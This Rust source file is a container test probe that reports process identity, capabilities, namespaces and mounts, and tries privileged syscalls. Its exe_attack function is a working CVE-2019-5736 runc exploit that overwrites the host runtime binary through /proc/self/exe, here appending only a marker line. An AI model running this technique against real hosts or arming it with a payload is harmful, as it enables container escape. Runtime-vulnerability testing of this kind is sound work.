//! `probe`: a tiny program put inside test containers to report what it sees.
//!
//! It depends on std only, because `kiln-testing`'s build script compiles this
//! one file with a plain `rustc -C target-feature=+crt-static` into a static
//! binary that runs in a busybox rootfs without a libc. Output is JSON written
//! by hand (see [`Json`]). The few syscalls std does not wrap are made directly
//! with `asm!` (x86_64 and aarch64), which is why this crate allows `unsafe`.
//!
//! Commands (argv[1]):
//! - `report`: one JSON object: identity, credentials, capabilities,
//!   namespaces, mounts, fds, rlimits, cgroup, tty.
//! - `cat PATH`, `echo ARGS...`, `exit N`, `sleep SECS`.
//! - `try NAME`: attempt one syscall, print `{"syscall":..,"ok":..,"errno":..}`.
//! - `write PATH TEXT`: create or overwrite a file, print `{"ok":..,"errno":..}`.
//! - `exe-attack SECONDS`: the CVE-2019-5736 attacker (see [`exe_attack`]).
//! - `fds`: the open fds as a JSON array.
//! - `udp-echo PORT`: answer each UDP datagram to PORT with `echo: ` and
//!   its bytes, forever (busybox's `nc` has no UDP).
#![allow(unsafe_code)]

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::fs;
use std::io::Write;
use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;
use std::process::ExitCode;
use std::time::{Duration, Instant};

const USAGE: &str = "usage: probe report | fds | cat PATH | echo ARGS... | exit N | sleep SECS
             | try SYSCALL | write PATH TEXT | exe-attack SECONDS | udp-echo PORT
syscalls for try: unshare mount keyctl kexec_load ptrace chroot getpid sethostname
                  reboot setns personality clone_newns";

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args_os().map(lossy).collect();
    let rest: Vec<&str> = args.iter().skip(2).map(String::as_str).collect();
    match (args.get(1).map(String::as_str), rest.as_slice()) {
        (Some("report"), []) => print_json(&report()),
        (Some("fds"), []) => print_json(&fds()),
        (Some("cat"), [path]) => return cat(path),
        (Some("udp-echo"), [port]) => return udp_echo(port),
        (Some("echo"), words) => println!("{}", words.join(" ")),
        (Some("exit"), [code]) => match code.parse::<u8>() {
            Ok(code) => return ExitCode::from(code),
            Err(_) => return usage(),
        },
        (Some("sleep"), [secs]) => match secs.parse::<f64>().ok().filter(|s| *s >= 0.0) {
            Some(secs) => std::thread::sleep(Duration::from_secs_f64(secs)),
            None => return usage(),
        },
        (Some("try"), [name]) => match try_syscall(name) {
            Some(result) => print_json(&Json::obj([
                ("syscall", Json::str(*name)),
                ("ok", Json::Bool(result.is_ok())),
                ("errno", Json::Int(result.err().unwrap_or(0).into())),
            ])),
            None => return usage(),
        },
        (Some("write"), [path, text]) => {
            let result = fs::write(path, text);
            print_json(&Json::obj([
                ("ok", Json::Bool(result.is_ok())),
                ("errno", Json::Int(errno_of(result.err()).into())),
            ]));
        }
        (Some("exe-attack"), [secs]) => match secs.parse::<f64>().ok().filter(|s| *s >= 0.0) {
            Some(secs) => print_json(&exe_attack(Duration::from_secs_f64(secs))),
            None => return usage(),
        },
        _ => return usage(),
    }
    ExitCode::SUCCESS
}

fn usage() -> ExitCode {
    eprintln!("{USAGE}");
    ExitCode::from(2)
}

fn udp_echo(port: &str) -> ExitCode {
    let socket = match port.parse::<u16>().map(|p| std::net::UdpSocket::bind(("0.0.0.0", p))) {
        Ok(Ok(socket)) => socket,
        Ok(Err(err)) => {
            eprintln!("probe: cannot bind udp port {port}: {err}");
            return ExitCode::FAILURE;
        }
        Err(_) => {
            eprintln!("probe: bad port {port}");
            return ExitCode::from(2);
        }
    };
    let mut buf = [0u8; 2048];
    loop {
        if let Ok((n, peer)) = socket.recv_from(&mut buf) {
            let mut reply = b"echo: ".to_vec();
            reply.extend_from_slice(buf.get(..n).unwrap_or_default());
            let _ = socket.send_to(&reply, peer);
        }
    }
}

fn cat(path: &str) -> ExitCode {
    match fs::read(path) {
        Ok(bytes) => {
            let mut out = std::io::stdout().lock();
            if out.write_all(&bytes).and_then(|()| out.flush()).is_ok() {
                ExitCode::SUCCESS
            } else {
                ExitCode::FAILURE
            }
        }
        Err(err) => {
            eprintln!("probe: cannot read {path}: {err}");
            ExitCode::FAILURE
        }
    }
}

fn print_json(value: &Json) {
    println!("{}", value.render());
}

fn lossy(s: OsString) -> String {
    s.to_string_lossy().into_owned()
}

fn errno_of(err: Option<std::io::Error>) -> i32 {
    err.map_or(0, |e| e.raw_os_error().unwrap_or(-1))
}

// ---------------------------------------------------------------------------
// JSON
// ---------------------------------------------------------------------------

/// A JSON value, just enough to render reports.
enum Json {
    Null,
    Bool(bool),
    Int(i64),
    Str(String),
    Arr(Vec<Json>),
    Obj(Vec<(String, Json)>),
}

impl Json {
    fn str(s: impl Into<String>) -> Json {
        Json::Str(s.into())
    }

    fn obj<const N: usize>(fields: [(&str, Json); N]) -> Json {
        Json::Obj(fields.into_iter().map(|(k, v)| (k.to_owned(), v)).collect())
    }

    /// A string, or null when it could not be read.
    fn opt_str(s: Option<String>) -> Json {
        s.map_or(Json::Null, Json::Str)
    }

    /// A decimal integer, or null when the text is not one.
    fn int_or_null(s: Option<&str>) -> Json {
        s.and_then(|s| s.trim().parse().ok()).map_or(Json::Null, Json::Int)
    }

    fn render(&self) -> String {
        let mut out = String::new();
        self.write_to(&mut out);
        out
    }

    fn write_to(&self, out: &mut String) {
        match self {
            Json::Null => out.push_str("null"),
            Json::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            Json::Int(n) => out.push_str(&n.to_string()),
            Json::Str(s) => write_json_string(s, out),
            Json::Arr(items) => {
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    item.write_to(out);
                }
                out.push(']');
            }
            Json::Obj(fields) => {
                out.push('{');
                for (i, (key, value)) in fields.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    write_json_string(key, out);
                    out.push(':');
                    value.write_to(out);
                }
                out.push('}');
            }
        }
    }
}

fn write_json_string(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{8}' => out.push_str("\\b"),
            '\u{c}' => out.push_str("\\f"),
            c if (c as u32) < 0x20 || c == '\u{7f}' => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

// ---------------------------------------------------------------------------
// report
// ---------------------------------------------------------------------------

const NAMESPACES: [&str; 10] = [
    "cgroup",
    "ipc",
    "mnt",
    "net",
    "pid",
    "pid_for_children",
    "time",
    "time_for_children",
    "user",
    "uts",
];

fn report() -> Json {
    let status = read_status();
    let field = |key: &str| status.get(key).map(String::as_str);
    // "Uid:\treal\teffective\tsaved\tfilesystem"
    let ids = |key: &str, i: usize| {
        Json::int_or_null(field(key).and_then(|v| v.split_whitespace().nth(i)))
    };
    let groups = field("Groups")
        .unwrap_or("")
        .split_whitespace()
        .map(|g| Json::int_or_null(Some(g)))
        .collect();
    let uts = uname();
    let stdin = read_link("/proc/self/fd/0");

    Json::obj([
        ("hostname", Json::opt_str(uts.as_ref().map(|u| u.nodename.clone()))),
        ("domainname", Json::opt_str(read_trimmed("/proc/sys/kernel/domainname"))),
        ("pid", Json::Int(std::process::id().into())),
        ("ppid", Json::Int(std::os::unix::process::parent_id().into())),
        ("uid", ids("Uid", 0)),
        ("euid", ids("Uid", 1)),
        ("suid", ids("Uid", 2)),
        ("gid", ids("Gid", 0)),
        ("egid", ids("Gid", 1)),
        ("groups", Json::Arr(groups)),
        ("umask", Json::opt_str(field("Umask").map(str::to_owned))),
        ("no_new_privs", field("NoNewPrivs").map_or(Json::Null, |v| Json::Bool(v == "1"))),
        ("seccomp", Json::int_or_null(field("Seccomp"))),
        ("cap_inh", Json::opt_str(field("CapInh").map(str::to_owned))),
        ("cap_prm", Json::opt_str(field("CapPrm").map(str::to_owned))),
        ("cap_eff", Json::opt_str(field("CapEff").map(str::to_owned))),
        ("cap_bnd", Json::opt_str(field("CapBnd").map(str::to_owned))),
        ("cap_amb", Json::opt_str(field("CapAmb").map(str::to_owned))),
        ("cwd", Json::opt_str(std::env::current_dir().ok().map(|p| lossy(p.into_os_string())))),
        ("args", Json::Arr(std::env::args_os().map(|a| Json::Str(lossy(a))).collect())),
        (
            "env",
            Json::Arr(
                std::env::vars_os()
                    .map(|(k, v)| Json::Str(format!("{}={}", lossy(k), lossy(v))))
                    .collect(),
            ),
        ),
        ("uid_map", Json::opt_str(fs::read_to_string("/proc/self/uid_map").ok())),
        ("gid_map", Json::opt_str(fs::read_to_string("/proc/self/gid_map").ok())),
        (
            "namespaces",
            Json::Obj(
                NAMESPACES
                    .iter()
                    .map(|ns| {
                        let link = read_link(&format!("/proc/self/ns/{ns}"));
                        ((*ns).to_owned(), Json::opt_str(link))
                    })
                    .collect(),
            ),
        ),
        ("mounts", mounts()),
        ("fds", fds()),
        ("rlimits", rlimits()),
        ("oom_score_adj", Json::int_or_null(read_trimmed("/proc/self/oom_score_adj").as_deref())),
        ("cgroup", Json::opt_str(fs::read_to_string("/proc/self/cgroup").ok())),
        ("tty", Json::Bool(is_tty(0))),
        ("stdin", Json::opt_str(stdin)),
    ])
}

/// `/proc/self/status` as key → value (value trimmed).
fn read_status() -> BTreeMap<String, String> {
    fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .filter_map(|line| line.split_once(':'))
        .map(|(k, v)| (k.to_owned(), v.trim().to_owned()))
        .collect()
}

fn read_trimmed(path: &str) -> Option<String> {
    fs::read_to_string(path).ok().map(|s| s.trim_end_matches('\n').to_owned())
}

fn read_link(path: &str) -> Option<String> {
    fs::read_link(path).ok().map(|p| lossy(p.into_os_string()))
}

/// Mounts from `/proc/self/mountinfo`:
/// `ID PARENT MAJ:MIN ROOT MOUNT_POINT MOUNT_OPTS [OPTIONAL...] - FSTYPE SOURCE SUPER_OPTS`.
fn mounts() -> Json {
    let text = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    Json::Arr(text.lines().filter_map(parse_mountinfo_line).collect())
}

fn parse_mountinfo_line(line: &str) -> Option<Json> {
    let fields: Vec<&str> = line.split(' ').collect();
    let sep = fields.iter().position(|f| *f == "-")?;
    let (root, mount_point, mount_opts) = (fields.get(3)?, fields.get(4)?, fields.get(5)?);
    let (fstype, source, super_opts) =
        (fields.get(sep + 1)?, fields.get(sep + 2)?, fields.get(sep + 3)?);
    Some(Json::obj([
        ("mount_point", Json::Str(unescape_octal(mount_point))),
        ("root", Json::Str(unescape_octal(root))),
        ("fstype", Json::Str(unescape_octal(fstype))),
        ("source", Json::Str(unescape_octal(source))),
        ("options", Json::Str(format!("{mount_opts},{super_opts}"))),
    ]))
}

/// Undo the kernel's `\NNN` octal escaping of spaces, tabs, newlines and `\`.
fn unescape_octal(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let digits = bytes.get(i + 1..i + 4);
        let octal = digits.filter(|d| d.iter().all(|b| (b'0'..=b'7').contains(b)));
        match (bytes[i], octal) {
            (b'\\', Some(d)) => {
                let value = d.iter().fold(0u32, |acc, b| acc * 8 + u32::from(b - b'0'));
                out.push(u8::try_from(value).unwrap_or(b'?'));
                i += 4;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Open fds as `[{fd, target}]`, without the one used to list the directory.
fn fds() -> Json {
    // List first, close the directory, then resolve: the listing's own fd is
    // closed by then, so its readlink fails and it drops out.
    let mut numbers: Vec<i64> = match fs::read_dir("/proc/self/fd") {
        Ok(dir) => dir.filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok()).collect(),
        Err(_) => return Json::Null,
    };
    numbers.sort_unstable();
    Json::Arr(
        numbers
            .into_iter()
            .filter_map(|fd| {
                let target = read_link(&format!("/proc/self/fd/{fd}"))?;
                Some(Json::obj([("fd", Json::Int(fd)), ("target", Json::Str(target))]))
            })
            .collect(),
    )
}

/// `/proc/self/limits` names and the `RLIMIT_*` suffix each stands for.
const RLIMIT_NAMES: [(&str, &str); 16] = [
    ("Max cpu time", "CPU"),
    ("Max file size", "FSIZE"),
    ("Max data size", "DATA"),
    ("Max stack size", "STACK"),
    ("Max core file size", "CORE"),
    ("Max resident set", "RSS"),
    ("Max processes", "NPROC"),
    ("Max open files", "NOFILE"),
    ("Max locked memory", "MEMLOCK"),
    ("Max address space", "AS"),
    ("Max file locks", "LOCKS"),
    ("Max pending signals", "SIGPENDING"),
    ("Max msgqueue size", "MSGQUEUE"),
    ("Max nice priority", "NICE"),
    ("Max realtime priority", "RTPRIO"),
    ("Max realtime timeout", "RTTIME"),
];

/// Rlimits as `{"NOFILE": ["1024", "4096"], ...}`; values are numbers or
/// "unlimited", as strings. Columns are found from the header line, because
/// names contain spaces and the units column is sometimes empty.
fn rlimits() -> Json {
    let text = fs::read_to_string("/proc/self/limits").unwrap_or_default();
    Json::Obj(parse_limits(&text))
}

fn parse_limits(text: &str) -> Vec<(String, Json)> {
    let mut lines = text.lines();
    let Some(header) = lines.next() else { return Vec::new() };
    let (Some(soft), Some(hard)) = (header.find("Soft Limit"), header.find("Hard Limit")) else {
        return Vec::new();
    };
    let units = header.find("Units").unwrap_or(usize::MAX);
    let column = |line: &str, from: usize, to: usize| {
        let to = to.min(line.len());
        line.get(from..to).unwrap_or("").trim().to_owned()
    };
    lines
        .filter_map(|line| {
            let name = column(line, 0, soft);
            let (_, key) = RLIMIT_NAMES.iter().find(|(n, _)| *n == name)?;
            let values =
                vec![Json::Str(column(line, soft, hard)), Json::Str(column(line, hard, units))];
            Some(((*key).to_owned(), Json::Arr(values)))
        })
        .collect()
}

// ---------------------------------------------------------------------------
// Raw syscalls
// ---------------------------------------------------------------------------

#[cfg(target_arch = "x86_64")]
mod nr {
    pub const IOCTL: usize = 16;
    pub const GETPID: usize = 39;
    pub const CLONE: usize = 56;
    pub const WAIT4: usize = 61;
    pub const UNAME: usize = 63;
    pub const PTRACE: usize = 101;
    pub const PERSONALITY: usize = 135;
    pub const CHROOT: usize = 161;
    pub const MOUNT: usize = 165;
    pub const UMOUNT2: usize = 166;
    pub const REBOOT: usize = 169;
    pub const SETHOSTNAME: usize = 170;
    pub const EXIT_GROUP: usize = 231;
    pub const KEXEC_LOAD: usize = 246;
    pub const KEYCTL: usize = 250;
    pub const UNSHARE: usize = 272;
    pub const SETNS: usize = 308;
}

// asm-generic numbering, as used by aarch64 (and the fallback below).
#[cfg(not(target_arch = "x86_64"))]
mod nr {
    pub const IOCTL: usize = 29;
    pub const CHROOT: usize = 51;
    pub const MOUNT: usize = 40;
    pub const UMOUNT2: usize = 39;
    pub const PERSONALITY: usize = 92;
    pub const EXIT_GROUP: usize = 94;
    pub const UNSHARE: usize = 97;
    pub const KEXEC_LOAD: usize = 104;
    pub const PTRACE: usize = 117;
    pub const REBOOT: usize = 142;
    pub const UNAME: usize = 160;
    pub const SETHOSTNAME: usize = 161;
    pub const GETPID: usize = 172;
    pub const KEYCTL: usize = 219;
    pub const CLONE: usize = 220;
    pub const WAIT4: usize = 260;
    pub const SETNS: usize = 268;
}

const CLONE_NEWNS: usize = 0x0002_0000;
const CLONE_NEWUTS: usize = 0x0400_0000;
const SIGCHLD: usize = 17;
const MNT_DETACH: usize = 2;
const TCGETS: usize = 0x5401;
const KEYCTL_GET_KEYRING_ID: usize = 0;
const KEY_SPEC_SESSION_KEYRING: isize = -3;
const PTRACE_TRACEME: usize = 0;
const ENOSYS: i32 = 38;

/// Make a raw syscall; `Err(errno)` on failure.
///
/// # Safety
/// The caller must pass arguments that are valid for syscall `n` (pointers to
/// live memory of the size the kernel reads or writes).
#[cfg(target_arch = "x86_64")]
unsafe fn syscall(n: usize, args: [usize; 6]) -> Result<usize, i32> {
    let ret: isize;
    // SAFETY: the x86_64 syscall ABI: number in rax, arguments in rdi, rsi,
    // rdx, r10, r8, r9; the kernel clobbers rcx and r11 and touches no stack.
    unsafe {
        std::arch::asm!(
            "syscall",
            inlateout("rax") n as isize => ret,
            in("rdi") args[0], in("rsi") args[1], in("rdx") args[2],
            in("r10") args[3], in("r8") args[4], in("r9") args[5],
            lateout("rcx") _, lateout("r11") _,
            options(nostack),
        );
    }
    decode(ret)
}

/// See the x86_64 variant.
#[cfg(target_arch = "aarch64")]
unsafe fn syscall(n: usize, args: [usize; 6]) -> Result<usize, i32> {
    let ret: isize;
    // SAFETY: the aarch64 syscall ABI: number in x8, arguments in x0-x5,
    // result in x0; `svc 0` touches no stack.
    unsafe {
        std::arch::asm!(
            "svc 0",
            in("x8") n,
            inlateout("x0") args[0] as isize => ret,
            in("x1") args[1], in("x2") args[2], in("x3") args[3],
            in("x4") args[4], in("x5") args[5],
            options(nostack),
        );
    }
    decode(ret)
}

/// Other architectures: every raw syscall reports ENOSYS.
#[cfg(not(any(target_arch = "x86_64", target_arch = "aarch64")))]
unsafe fn syscall(_n: usize, _args: [usize; 6]) -> Result<usize, i32> {
    Err(ENOSYS)
}

fn decode(ret: isize) -> Result<usize, i32> {
    if (-4095..0).contains(&ret) {
        Err(i32::try_from(-ret).unwrap_or(ENOSYS))
    } else {
        Ok(ret as usize)
    }
}

/// Run `child` in a forked copy of this process (raw clone with `flags`, no
/// new stack: fork semantics) and return its exit status as the result:
/// `Ok` if it exited 0, else `Err(code)`. `child` must return an errno or 0,
/// and must only make raw syscalls.
fn in_forked_child(flags: usize, child: fn() -> i32) -> Result<usize, i32> {
    // SAFETY: with no CLONE_VM and a null stack the child gets a private copy
    // of this (single-threaded) process, as with fork; it runs only `child`
    // (raw syscalls) and exit_group, never returning into Rust code here.
    let pid = unsafe { syscall(nr::CLONE, [flags | SIGCHLD, 0, 0, 0, 0, 0]) }?;
    if pid == 0 {
        let code = child();
        // SAFETY: exit_group takes a plain integer and does not return.
        let _ = unsafe { syscall(nr::EXIT_GROUP, [code as usize, 0, 0, 0, 0, 0]) };
        unreachable!("exit_group returned");
    }
    let mut wstatus: i32 = 0;
    // SAFETY: wstatus is a live i32 the kernel writes the status into.
    unsafe { syscall(nr::WAIT4, [pid, &mut wstatus as *mut i32 as usize, 0, 0, 0, 0]) }?;
    match (wstatus & 0x7f, (wstatus >> 8) & 0xff) {
        (0, 0) => Ok(0),
        (0, code) => Err(code),
        (signal, _) => Err(128 + signal),
    }
}

/// Attempt one syscall by name; None for names the probe does not know.
/// Each attempt is harmless when it succeeds inside a container, and none of
/// them can do lasting damage on a host: mounts are detached right away,
/// the hostname is set to its current value, `reboot` uses an invalid magic.
fn try_syscall(name: &str) -> Option<Result<usize, i32>> {
    let null = 0usize;
    // SAFETY (all blocks below): the arguments are integers, null pointers or
    // pointers to NUL-terminated byte strings that outlive the call.
    let result = match name {
        "getpid" => unsafe { syscall(nr::GETPID, [0; 6]) },
        "unshare" => unsafe { syscall(nr::UNSHARE, [CLONE_NEWUTS, 0, 0, 0, 0, 0]) },
        "mount" => {
            let (src, target, fstype) = (c"tmpfs", c"/tmp", c"tmpfs");
            let args = [
                src.as_ptr() as usize,
                target.as_ptr() as usize,
                fstype.as_ptr() as usize,
                0,
                null,
                0,
            ];
            let result = unsafe { syscall(nr::MOUNT, args) };
            if result.is_ok() {
                let _ = unsafe {
                    syscall(nr::UMOUNT2, [target.as_ptr() as usize, MNT_DETACH, 0, 0, 0, 0])
                };
            }
            result
        }
        "keyctl" => unsafe {
            syscall(
                nr::KEYCTL,
                [KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING as usize, 0, 0, 0, 0],
            )
        },
        "kexec_load" => unsafe { syscall(nr::KEXEC_LOAD, [0, 0, null, 0, 0, 0]) },
        // In a forked child, so that this process is never left traced.
        "ptrace" => in_forked_child(0, || {
            // SAFETY: PTRACE_TRACEME takes no pointers.
            match unsafe { syscall(nr::PTRACE, [PTRACE_TRACEME, 0, 0, 0, 0, 0]) } {
                Ok(_) => 0,
                Err(errno) => errno,
            }
        }),
        "chroot" => unsafe { syscall(nr::CHROOT, [c"/".as_ptr() as usize, 0, 0, 0, 0, 0]) },
        "sethostname" => {
            let current = uname().map(|u| u.nodename).unwrap_or_default();
            let bytes = current.as_bytes();
            unsafe { syscall(nr::SETHOSTNAME, [bytes.as_ptr() as usize, bytes.len(), 0, 0, 0, 0]) }
        }
        // magic1 = 0 is invalid: EINVAL when permitted, EPERM when not.
        "reboot" => unsafe { syscall(nr::REBOOT, [0, 0, 0, null, 0, 0]) },
        "setns" => unsafe { syscall(nr::SETNS, [-1isize as usize, 0, 0, 0, 0, 0]) },
        "personality" => unsafe { syscall(nr::PERSONALITY, [0xffff_ffff, 0, 0, 0, 0, 0]) },
        "clone_newns" => in_forked_child(CLONE_NEWNS, || 0),
        _ => return None,
    };
    Some(result)
}

struct Uts {
    nodename: String,
}

fn uname() -> Option<Uts> {
    // struct utsname: six 65-byte fields; nodename is the second.
    let mut buf = [0u8; 6 * 65];
    // SAFETY: buf is a live buffer of sizeof(struct utsname) bytes.
    unsafe { syscall(nr::UNAME, [buf.as_mut_ptr() as usize, 0, 0, 0, 0, 0]) }.ok()?;
    let field = |i: usize| {
        let raw = &buf[i * 65..(i + 1) * 65];
        let end = raw.iter().position(|b| *b == 0).unwrap_or(raw.len());
        String::from_utf8_lossy(&raw[..end]).into_owned()
    };
    Some(Uts { nodename: field(1) })
}

fn is_tty(fd: usize) -> bool {
    // Larger than any architecture's struct termios.
    let mut termios = [0u8; 256];
    // SAFETY: TCGETS writes a struct termios into the live buffer.
    unsafe { syscall(nr::IOCTL, [fd, TCGETS, termios.as_mut_ptr() as usize, 0, 0, 0]) }.is_ok()
}

// ---------------------------------------------------------------------------
// exe-attack
// ---------------------------------------------------------------------------

const O_PATH: i32 = 0o10_000_000;
const MARK: &[u8] = b"#kiln-probe-was-here\n";
/// Keep at most this many fds, so a busy /proc cannot exhaust the fd table.
const MAX_TARGETS: usize = 512;

/// The CVE-2019-5736 attacker. For `duration`, scan /proc for other processes
/// (not this one or its parent), keep an O_PATH fd to each one's
/// `/proc/PID/exe`, and keep trying to reopen each kept fd for writing through
/// `/proc/self/fd/N`. A runtime that lets a container see its own executable
/// (runc before the fix) loses that race once its exec is done; then the mark
/// is appended to it. Prints `{"opened": [targets], "written": [targets]}`.
fn exe_attack(duration: Duration) -> Json {
    let me = std::process::id();
    let parent = std::os::unix::process::parent_id();
    let deadline = Instant::now() + duration;
    // pid → (O_PATH fd, link target, written)
    let mut kept: BTreeMap<u32, (fs::File, String, bool)> = BTreeMap::new();

    while Instant::now() < deadline {
        for pid in other_pids(me, parent) {
            if kept.len() >= MAX_TARGETS || kept.contains_key(&pid) {
                continue;
            }
            let path = format!("/proc/{pid}/exe");
            if let Ok(fd) = fs::OpenOptions::new().read(true).custom_flags(O_PATH).open(&path) {
                let target = fd_target(&fd).unwrap_or(path);
                kept.insert(pid, (fd, target, false));
            }
        }
        for (fd, _, written) in kept.values_mut().filter(|(_, _, written)| !*written) {
            let reopen = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(fd));
            if let Ok(mut file) = fs::OpenOptions::new().append(true).open(reopen) {
                *written = file.write_all(MARK).is_ok();
            }
        }
        std::thread::yield_now();
    }

    let targets = |only_written: bool| {
        let mut list: Vec<&String> =
            kept.values().filter(|(_, _, w)| *w || !only_written).map(|(_, t, _)| t).collect();
        list.sort();
        list.dedup();
        Json::Arr(list.into_iter().map(|t| Json::Str(t.clone())).collect())
    };
    Json::obj([("opened", targets(false)), ("written", targets(true))])
}

fn other_pids(me: u32, parent: u32) -> Vec<u32> {
    let Ok(dir) = fs::read_dir("/proc") else { return Vec::new() };
    dir.filter_map(|entry| entry.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| *pid != me && *pid != parent)
        .collect()
}

fn fd_target(fd: &fs::File) -> Option<String> {
    let fd = std::os::fd::AsRawFd::as_raw_fd(fd);
    fs::read_link(Path::new(&format!("/proc/self/fd/{fd}"))).ok().map(|p| lossy(p.into_os_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn json_strings_escape_quotes_backslashes_and_controls() {
        let value = Json::obj([("k\"", Json::str("a\\b\n\t\u{1}é"))]);
        assert_eq!(value.render(), r#"{"k\"":"a\\b\n\t\u0001é"}"#);
    }

    #[test]
    fn mountinfo_line_gives_unescaped_point_and_joined_options() {
        let line =
            r"36 35 98:0 /mnt1 /mnt\040two rw,noatime master:1 - ext3 /dev/root rw,errors=continue";
        let mount = parse_mountinfo_line(line).map(|j| j.render());
        assert_eq!(
            mount.as_deref(),
            Some(
                r#"{"mount_point":"/mnt two","root":"/mnt1","fstype":"ext3","source":"/dev/root","options":"rw,noatime,rw,errors=continue"}"#
            )
        );
    }

    #[test]
    fn octal_escapes_are_undone_and_other_backslashes_kept() {
        assert_eq!(unescape_octal(r"a\011b\134c\xd"), "a\tb\\c\\xd");
    }

    #[test]
    fn limits_map_to_rlimit_names_with_soft_and_hard() {
        let text = "Limit                     Soft Limit           Hard Limit           Units     \n\
                    Max open files            1024                 4096                 files     \n\
                    Max core file size        0                    unlimited            bytes     \n\
                    Max nice priority         0                    0                    \n";
        let rendered = Json::Obj(parse_limits(text)).render();
        assert_eq!(
            rendered,
            r#"{"NOFILE":["1024","4096"],"CORE":["0","unlimited"],"NICE":["0","0"]}"#
        );
    }

    #[test]
    fn getpid_succeeds_and_unknown_syscall_is_rejected() {
        assert_eq!(try_syscall("getpid"), Some(Ok(std::process::id() as usize)));
        assert_eq!(try_syscall("nonsense"), None);
    }

    #[test]
    fn setns_on_a_bad_fd_fails_with_ebadf() {
        assert_eq!(try_syscall("setns"), Some(Err(9)));
    }

    #[test]
    fn report_names_this_process() {
        let report = report().render();
        assert!(report.contains(&format!("\"pid\":{}", std::process::id())), "{report}");
        assert!(report.contains("\"NOFILE\":["), "{report}");
    }
}
